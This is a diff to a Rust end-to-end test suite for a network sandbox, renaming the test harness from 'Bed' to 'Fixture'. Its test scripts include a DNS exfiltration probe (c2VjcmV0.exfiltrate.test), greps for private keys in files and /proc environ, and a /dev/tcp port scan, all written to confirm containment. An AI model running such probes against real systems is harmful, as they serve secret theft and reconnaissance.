@@ -6,8 +6,8 @@ use std::time::{Duration, Instant};
 
 use e2e_tests::DEADLINE;
 use e2e_tests::assert_held;
-use e2e_tests::bed::{self, Bed, read_until};
 use e2e_tests::engine;
+use e2e_tests::fixture::{self, Fixture, read_until};
 use e2e_tests::host::{self, HostService};
 use e2e_tests::setting::Setting;
 use e2e_tests::world::{IcmpSink, ORIGIN, SINK, UdpSink};
@@ -21,8 +21,8 @@ const POLICY: &str = "domains: [open.test]";
 /// The host's address on the cable to the world.
 const HOST: &str = "203.0.113.254";
 
-async fn probe(bed: &Bed, arguments: &str) -> String {
-    let ran = bed.run(POLICY, &format!("/probe {arguments}")).await;
+async fn probe(fixture: &Fixture, arguments: &str) -> String {
+    let ran = fixture.run(POLICY, &format!("/probe {arguments}")).await;
     assert_eq!(ran.code, 0, "the probe could not run: {}", ran.stderr);
     ran.stdout
 }
@@ -35,10 +35,10 @@ fn answered(outcome: &str) -> bool {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn the_hosts_services_are_unreachable_over_ipv4() {
-    let bed = Bed::new().await;
+    let fixture = Fixture::new().await;
     let service = HostService::start();
     for address in [HOST, "10.88.0.1", "169.254.1.2"] {
-        let outcome = probe(&bed, &format!("tcp {address} {}", service.port())).await;
+        let outcome = probe(&fixture, &format!("tcp {address} {}", service.port())).await;
         assert_held!(!answered(&outcome), "{address}: {outcome}");
     }
     // The first address of the task's own network, where a bridge would have its gateway.
@@ -46,41 +46,41 @@ async fn the_hosts_services_are_unreachable_over_ipv4() {
         "ip -4 -o addr show scope global | awk '{{print $4}}'; /probe tcp $(ip -4 -o addr show scope global | awk '{{print $4}}' | sed 's/\\.[0-9]*\\/.*//').1 {}",
         service.port()
     );
-    let ran = bed.run(POLICY, &script).await;
+    let ran = fixture.run(POLICY, &script).await;
     assert_held!(!answered(&ran.stdout), "{}", ran.stdout);
-    bed.close().await;
+    fixture.close().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn the_control_an_unrestricted_task_reaches_the_hosts_services() {
-    let bed = Bed::new().await;
+    let fixture = Fixture::new().await;
     let service = HostService::start();
-    let spec = bed
+    let spec = fixture
         .command(POLICY, &["/probe", "tcp", HOST, &service.port().to_string()])
         .network(Network::Unrestricted);
-    let ran = bed.run_spec(spec).await;
+    let ran = fixture.run_spec(spec).await;
     assert!(answered(&ran.stdout), "{}", ran.stdout);
-    bed.close().await;
+    fixture.close().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn names_that_podman_gives_the_host_lead_nowhere() {
-    let bed = Bed::new().await;
+    let fixture = Fixture::new().await;
     let service = HostService::start();
     for name in ["host.containers.internal", "host.docker.internal"] {
         let script = format!(
             "for address in $(getent ahostsv4 {name} | awk '{{print $1}}' | sort -u); do /probe tcp $address {}; done; echo '\"outcome\"'",
             service.port()
         );
-        let ran = bed.run(POLICY, &script).await;
+        let ran = fixture.run(POLICY, &script).await;
         assert_held!(!ran.stdout.contains("\"reached\""), "{name}: {}", ran.stdout);
     }
-    bed.close().await;
+    fixture.close().await;
 }
 
 /// The outcomes for a task that tries `port` at the link-local addresses of its own bridge and of all others.
-async fn with_link_local(bed: &Bed, port: u16) -> Vec<String> {
-    let spec = bed.command(
+async fn with_link_local(fixture: &Fixture, port: u16) -> Vec<String> {
+    let spec = fixture.command(
         POLICY,
         &[
             "bash",
@@ -90,11 +90,11 @@ async fn with_link_local(bed: &Bed, port: u16) -> Vec<String> {
                 .as_str(),
         ],
     );
-    let command = bed.sandbox.create_command(spec).expect("a good command");
+    let command = fixture.sandbox.create_command(spec).expect("a good command");
     let (mut writer, reader) = tokio::io::duplex(4096);
     let mut execution = command.execute(Input::Reader(Box::new(reader)));
     read_until(&mut execution, |output| output.contains("ready")).await;
-    let (_, bridge) = task_and_bridge(bed).await;
+    let (_, bridge) = task_and_bridge(fixture).await;
     let own = link_local_address_of(bridge).await;
     // Those of other bridges as well.
     let mut addresses: BTreeSet<String> = tokio::task::spawn_blocking(host::link_local_addresses)
@@ -117,9 +117,9 @@ async fn with_link_local(bed: &Bed, port: u16) -> Vec<String> {
     outcomes
 }
 
-/// The id of the bed's task, and the name of the bridge that it is on.
-async fn task_and_bridge(bed: &Bed) -> (String, String) {
-    let task = bed.container(Role::Task).await;
+/// The id of the fixture's task, and the name of the bridge that it is on.
+async fn task_and_bridge(fixture: &Fixture) -> (String, String) {
+    let task = fixture.container(Role::Task).await;
     let facts = engine::json("GET", &format!("/containers/{task}/json"), None).await;
     let networks = facts.pointer("/NetworkSettings/Networks").and_then(Value::as_object);
     let network = networks.and_then(|all| all.keys().next()).expect("a task has a network");
@@ -130,15 +130,15 @@ async fn task_and_bridge(bed: &Bed) -> (String, String) {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn the_hosts_services_are_unreachable_over_ipv6_link_local() {
-    let bed = Bed::new().await;
+    let fixture = Fixture::new().await;
     let service = HostService::start();
-    for outcome in with_link_local(&bed, service.port()).await {
+    for outcome in with_link_local(&fixture, service.port()).await {
         assert_held!(!answered(&outcome), "{outcome}");
     }
-    let addresses = bed.run(POLICY, "cat /proc/net/if_inet6 2>/dev/null; cat /proc/sys/net/ipv6/conf/*/disable_ipv6 | sort -u; echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6 || echo refused").await;
+    let addresses = fixture.run(POLICY, "cat /proc/net/if_inet6 2>/dev/null; cat /proc/sys/net/ipv6/conf/*/disable_ipv6 | sort -u; echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6 || echo refused").await;
     assert_held!(!addresses.stdout.contains('0'), "it has IPv6: {}", addresses.stdout);
     assert_eq!(addresses.stdout, "1\nrefused\n", "{}", addresses.stderr);
-    bed.close().await;
+    fixture.close().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -187,7 +187,7 @@ async fn link_local_address_of(bridge: String) -> String {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn udp_and_icmp_to_the_outside_arrive_nowhere() {
-    let bed = Bed::new().await;
+    let fixture = Fixture::new().await;
     let sink = UdpSink::bind(SINK);
     let echoes = IcmpSink::bind(SINK);
     // Directly, and with the proxy as a router for whoever could change routes.
@@ -198,16 +198,16 @@ async fn udp_and_icmp_to_the_outside_arrive_nowhere() {
         sink.address(),
         Ipv4Addr::new(203, 0, 113, 10),
     );
-    let ran = bed.run(POLICY, &script).await;
+    let ran = fixture.run(POLICY, &script).await;
     assert_eq!(ran.stdout.matches("\"outcome\"").count(), 5, "each attempt was made: {}", ran.stdout);
     assert_held!(sink.count() == 0 && echoes.count() == 0, "{}", ran.stdout);
 
-    let spec = bed.command(POLICY, &["bash", "-c", &script]).network(Network::Unrestricted);
-    let control = bed.run_spec(spec).await;
+    let spec = fixture.command(POLICY, &["bash", "-c", &script]).network(Network::Unrestricted);
+    let control = fixture.run_spec(spec).await;
     assert!(sink.count() > 0, "the control reaches the sink: {}", control.stdout);
     let outcome = engine::weakened(&["icmp", &SINK.to_string(), "3"], &json!({"cap_add": ["NET_RAW"]})).await;
     assert!(echoes.count() > 0, "the control: with a raw socket the echo arrives: {outcome}");
-    bed.close().await;
+    fixture.close().await;
 }
 
 /// For each port that it reads: sends datagrams there to each of `TARGETS` as a program without rights can: as usual, without routes, from a
@@ -235,7 +235,7 @@ for line in sys.stdin:
 /// Without its filter, a task on an engine that does not check the way back (`rp_filter`) sends datagrams to any address of the host.
 #[tokio::test(flavor = "multi_thread")]
 async fn datagrams_to_the_host_arrive_nowhere_whatever_the_socket() {
-    let bed = Bed::new().await;
+    let fixture = Fixture::new().await;
     let sink = || host::inside(|| UdpSink::bind(Ipv4Addr::UNSPECIFIED));
     let (sandboxed, unfiltered) = (sink(), sink());
     let everybody = [Ipv4Addr::BROADCAST, Ipv4Addr::new(224, 0, 0, 1)];
@@ -243,7 +243,7 @@ async fn datagrams_to_the_host_arrive_nowhere_whatever_the_socket() {
         host::addresses().into_iter().chain(everybody).map(|target| target.to_string()).collect();
     assert!(targets.iter().any(|target| target == HOST), "{targets:?}");
     let script = DATAGRAMS.replace("TARGETS", &json!(targets).to_string());
-    let command = bed.sandbox.create_command(bed.command(POLICY, &["python3", "-c", &script]));
+    let command = fixture.sandbox.create_command(fixture.command(POLICY, &["python3", "-c", &script]));
     let (mut writer, reader) = tokio::io::duplex(64);
     let mut execution = command.expect("a good command").execute(Input::Reader(Box::new(reader)));
     let mut attempt = async |sink: &UdpSink| {
@@ -257,7 +257,7 @@ async fn datagrams_to_the_host_arrive_nowhere_whatever_the_socket() {
     }
     assert_held!(!outcome.contains("sent"), "{outcome}");
 
-    let (task, bridge) = task_and_bridge(&bed).await;
+    let (task, bridge) = task_and_bridge(&fixture).await;
     host::set(&format!("ipv4/conf/{bridge}/rp_filter"), "0");
     let script = [engine::WITHOUT_FILTER, "print(without_filter())"].concat();
     let within = json!({"image": Setting::of_this_run().clients_image, "entrypoint": [],
@@ -269,7 +269,7 @@ async fn datagrams_to_the_host_arrive_nowhere_whatever_the_socket() {
     assert_held!(sandboxed.count() == 0, "{outcome}");
     drop(writer);
     execution.await.expect("the sandbox works");
-    bed.close().await;
+    fixture.close().await;
 }
 
 /// Sends an echo request to each address with each kind of socket, and says what comes of it.
@@ -295,11 +295,11 @@ EOF";
 /// microsandbox 0c13181a: the gateway answered echo requests past its policy.
 #[tokio::test(flavor = "multi_thread")]
 async fn the_proxy_cannot_be_pinged_nor_anything_behind_it() {
-    let bed = Bed::new().await;
+    let fixture = Fixture::new().await;
     // Nothing else pings this address.
     let echoes = IcmpSink::bind(ORIGIN);
     let script = PING.replace("$TARGETS", &format!("proxy {ORIGIN}"));
-    let ran = bed.run(POLICY, &script).await;
+    let ran = fixture.run(POLICY, &script).await;
     let tried = ran.stdout.matches("ping ").count();
     assert_eq!(tried, 2, "{}{}", ran.stdout, ran.stderr);
     assert_held!(!ran.stdout.contains("answered"), "{}", ran.stdout);
@@ -310,19 +310,19 @@ async fn the_proxy_cannot_be_pinged_nor_anything_behind_it() {
     let control = engine::printed(&free).await;
     assert!(control.contains("raw answered"), "{control}");
     assert!(echoes.count() > 0, "{control}");
-    bed.close().await;
+    fixture.close().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn names_never_leave_and_only_the_proxy_answers() {
-    let bed = Bed::new().await;
+    let fixture = Fixture::new().await;
     let script = "server=$(awk '/nameserver/ {print $2}' /etc/resolv.conf)
 /probe dns $server:53 c2VjcmV0.exfiltrate.test 1
 /probe dns $server:53 c2VjcmV0.exfiltrate.test 16
 /probe dns $server:53 c2VjcmV0.exfiltrate.test 255 --tcp
 /probe dns 203.0.113.10:53 open.test 1
 /probe dns 203.0.113.10:53 open.test 1 --tcp";
-    let ran = bed.run(POLICY, script).await;
+    let ran = fixture.run(POLICY, script).await;
     let lines: Vec<&str> = ran.stdout.lines().collect();
     assert!(lines[0].contains("rcode 0 answers 1 address 10.199."), "{}", ran.stdout);
     assert!(
@@ -332,23 +332,23 @@ async fn names_never_leave_and_only_the_proxy_answers() {
     );
     assert_held!(!answered(lines[3]) && !answered(lines[4]), "{}", ran.stdout);
     assert_eq!(ran.log_lines("DNS TXT c2VjcmV0.exfiltrate.test -> NODATA").len(), 1, "{}", ran.log);
-    let spec = bed
+    let spec = fixture
         .command(POLICY, &["/probe", "dns", "203.0.113.10:53", "open.test", "1"])
         .network(Network::Unrestricted);
-    assert!(answered(&bed.run_spec(spec).await.stdout), "the control reaches the world's name server");
-    bed.close().await;
+    assert!(answered(&fixture.run_spec(spec).await.stdout), "the control reaches the world's name server");
+    fixture.close().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn only_three_ports_of_the_proxy_are_open() {
-    let bed = Bed::new().await;
+    let fixture = Fixture::new().await;
     let script = "server=$(awk '/nameserver/ {print $2}' /etc/resolv.conf)
 for port in $(seq 1 1024) 3128 8080 8081 8443 9090; do (exec 3<>/dev/tcp/$server/$port) 2>/dev/null && echo $port; done; true";
-    let ran = bed.run(POLICY, script).await;
+    let ran = fixture.run(POLICY, script).await;
     let is_served = |port: &str| ["53", "80", "443"].contains(&port);
     assert_held!(ran.stdout.lines().all(is_served), "{}", ran.stdout);
     assert_eq!(ran.stdout, "53\n80\n443\n", "{}", ran.stderr);
-    bed.close().await;
+    fixture.close().await;
 }
 
 /// Tries ports of the proxy one after the other, as fast as they are refused, for some seconds; prints how long it took, rounded up.
@@ -359,8 +359,8 @@ echo took $((SECONDS + 1))";
 
 #[tokio::test(flavor = "multi_thread")]
 async fn ports_that_nothing_serves_are_refused_at_once_and_on_record_once_a_second() {
-    let bed = Bed::new().await;
-    let ran = bed.run(POLICY, PORTS).await;
+    let fixture = Fixture::new().await;
+    let ran = fixture.run(POLICY, PORTS).await;
     assert_eq!(ran.stdout.matches("\"refused\"").count(), 3, "{}", ran.stdout);
     let took: usize =
         ran.stdout.rsplit("took ").next().and_then(|took| took.trim().parse().ok()).expect("a time");
@@ -370,13 +370,13 @@ async fn ports_that_nothing_serves_are_refused_at_once_and_on_record_once_a_seco
     let connections = records.len() - of("443/udp");
     assert!(connections > 1, "later ones are on record, too: {}", ran.log);
     assert!(connections <= took + 1, "once a second, for {took} seconds: {}", ran.log);
-    bed.close().await;
+    fixture.close().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn two_tasks_see_nothing_of_each_other() {
-    let first = Bed::new().await;
-    let second = Bed::new().await;
+    let first = Fixture::new().await;
+    let second = Fixture::new().await;
     // Each task prints its proxy's address, then tries the other's, and then its own: that is the control.
     let script = "own=$(awk '/nameserver/ {print $2}' /etc/resolv.conf); echo $own; read other; \
          /probe tcp $other 80; echo control; /probe tcp $own 80; curl -sS https://open.test/mine";
@@ -392,15 +392,15 @@ async fn two_tasks_see_nothing_of_each_other() {
 }
 
 /// Runs `script`, and writes to its stdin the proxy address that the other conversation printed.
-async fn conversation(bed: &Bed, script: &str) -> String {
+async fn conversation(fixture: &Fixture, script: &str) -> String {
     use std::sync::OnceLock;
     use tokio::sync::broadcast;
     static ADDRESSES: OnceLock<broadcast::Sender<String>> = OnceLock::new();
     let addresses = ADDRESSES.get_or_init(|| broadcast::Sender::new(8));
     let mut others = addresses.subscribe();
     let (mut writer, reader) = tokio::io::duplex(256);
-    let spec = bed.command(POLICY, &["bash", "-c", script]);
-    let command = bed.sandbox.create_command(spec).expect("a good command");
+    let spec = fixture.command(POLICY, &["bash", "-c", script]);
+    let command = fixture.sandbox.create_command(spec).expect("a good command");
     let mut execution = command.execute(Input::Reader(Box::new(reader)));
     let printed = read_until(&mut execution, |output| output.contains('\n')).await;
     let own = printed.lines().next().expect("the task prints its proxy's address");
@@ -419,33 +419,33 @@ async fn conversation(bed: &Bed, script: &str) -> String {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn neither_the_root_key_nor_the_tasks_key_is_in_reach() {
-    let bed = Bed::new().await;
+    let fixture = Fixture::new().await;
     // What is mounted from the state folder is the container's own files, none of which is the authority's.
     let script = "grep -rl 'PRIVATE KEY' /run/sandbox /etc/ssl /usr/local/share 2>/dev/null; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c 'PRIVATE KEY'; \
          grep -c authority /proc/self/mountinfo; grep -q ' /run/sandbox' /proc/self/mountinfo && echo mounted; true";
-    let ran = bed.run(POLICY, script).await;
+    let ran = fixture.run(POLICY, script).await;
     // The files that hold a key, and what counts them.
     let found = ran.stdout.lines().any(|line| !["0", "mounted"].contains(&line));
     assert_held!(!found, "{}", ran.stdout);
     assert_eq!(ran.stdout, "0\n0\nmounted\n", "{}", ran.stderr);
-    let key = std::fs::read_to_string(bed::state_dir().join("authority/root.pem"))
+    let key = std::fs::read_to_string(fixture::state_dir().join("authority/root.pem"))
         .is_ok_and(|text| text.contains("PRIVATE KEY"));
     assert!(key, "the control: the root key is in the state folder of the host");
-    bed.close().await;
+    fixture.close().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn when_the_proxy_is_killed_all_traffic_stops() {
-    let bed = Bed::new().await;
+    let fixture = Fixture::new().await;
     let script = "curl -sS --max-time 5 https://open.test/ && echo before; read go; \
          curl -sS --max-time 5 https://open.test/ && echo after; /probe tcp 203.0.113.10 443; echo end";
-    let spec = bed.command(POLICY, &["bash", "-c", script]);
-    let command = bed.sandbox.create_command(spec).expect("a good command");
+    let spec = fixture.command(POLICY, &["bash", "-c", script]);
+    let command = fixture.sandbox.create_command(spec).expect("a good command");
     let (mut writer, reader) = tokio::io::duplex(64);
     let mut execution = command.execute(Input::Reader(Box::new(reader)));
     let before = read_until(&mut execution, |output| output.contains("before")).await;
     assert!(before.contains("before"), "a first request went through: {before}");
-    let proxy = bed.container(Role::Proxy).await;
+    let proxy = fixture.container(Role::Proxy).await;
     engine::call("POST", &format!("/containers/{proxy}/kill?signal=KILL"), None).await;
     writer.write_all(b"go\n").await.expect("the task reads");
     let result = execution.await.expect("a dead proxy is not a failure of the command");
@@ -453,7 +453,7 @@ async fn when_the_proxy_is_killed_all_traffic_stops() {
     assert_held!(!output.contains("after"), "{output}");
     assert!(output.contains("end"), "{output}");
     assert_held!(!output.contains("\"reached\""), "{output}");
-    let log = std::fs::read_to_string(bed.folder().join("network-sandbox.log")).expect("a log");
+    let log = std::fs::read_to_string(fixture.folder().join("network-sandbox.log")).expect("a log");
     assert!(log.contains("WARNING"), "{log}");
-    bed.close().await;
+    fixture.close().await;
 }
